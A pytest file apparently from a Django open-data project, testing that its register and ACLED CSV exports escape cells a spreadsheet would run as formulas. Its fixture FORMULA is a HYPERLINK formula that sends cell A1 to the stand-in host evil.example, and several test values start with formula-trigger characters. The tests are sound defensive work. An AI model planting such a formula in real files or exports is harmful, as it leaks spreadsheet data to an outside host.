"""Fault 9 of issue 14: the open-data CSV files never hand a spreadsheet a formula (OWASP, CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import AbstractBaseUser
from django.test import Client

from beibit.opendata import consent
from beibit.opendata.cells import safe_cell
from tests.cases.fixtures import CaseMaker, at, rally
from tests.opendata.conftest import FakeMonitoring, summary

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+7 701 123", "'+7 701 123"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("-12.5", "-12.5"),
        ("+3", "+3"),
        ("plain text", "plain text"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_fault09_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(text: str, expected: str) -> None:
    assert safe_cell(text) == expected


def test_fault09_formula_injection_in_the_register_csv_is_neutralised(
    client: Client, filed: CaseMaker, organizer: AbstractBaseUser, monitored: FakeMonitoring
) -> None:
    case = filed(rally(purpose=FORMULA))
    consent.give(case.pk, organizer, publish_purpose=True, group_name="@group", now=at(2026, 3, 26))
    monitored.linked.append(summary(case_id=case.pk, size_source="-1+1 by =police"))
    for name in ("register.csv", "acled.csv"):
        body = client.get(f"/api/v1/open-data/{name}").getvalue().decode()
        for row in csv.reader(io.StringIO(body)):
            assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row), (name, row)
            assert not any(cell.startswith("-") and not cell[1:2].isdigit() for cell in row), (name, row)
    body = client.get("/api/v1/open-data/register.csv").getvalue().decode()
    table = list(csv.DictReader(io.StringIO(body)))
    assert table[0]["purpose_text"] == "'" + FORMULA
    assert table[0]["organizer_group"] == "'@group"
